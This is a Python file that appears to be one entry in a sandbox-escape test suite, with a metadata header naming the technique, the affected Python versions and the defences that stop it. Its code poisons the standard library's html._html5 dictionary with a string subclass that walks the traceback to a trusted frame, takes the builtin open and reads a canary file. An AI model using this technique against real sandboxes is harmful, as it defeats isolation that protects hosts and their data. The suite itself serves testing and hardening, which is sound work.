# id: host-container-aliasing
# family: shared-state-poisoning
# kind: isolation
# invariant: B, D, E
# origin: Jinja 3.1.5 and simpleeval's names dictionary
# technique: a dictionary that trusted code keeps and gives away by reference can be filled by the guest
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import html


class Entity(str):
    def __add__(self, rest):
        try:
            raise LookupError
        except LookupError as error:
            trusted = error.__traceback__.tb_frame.f_back
        print(trusted.f_builtins["open"]("canary.txt").read())
        return rest


html._html5["planted"] = Entity()
html.unescape("&plantedhere;")
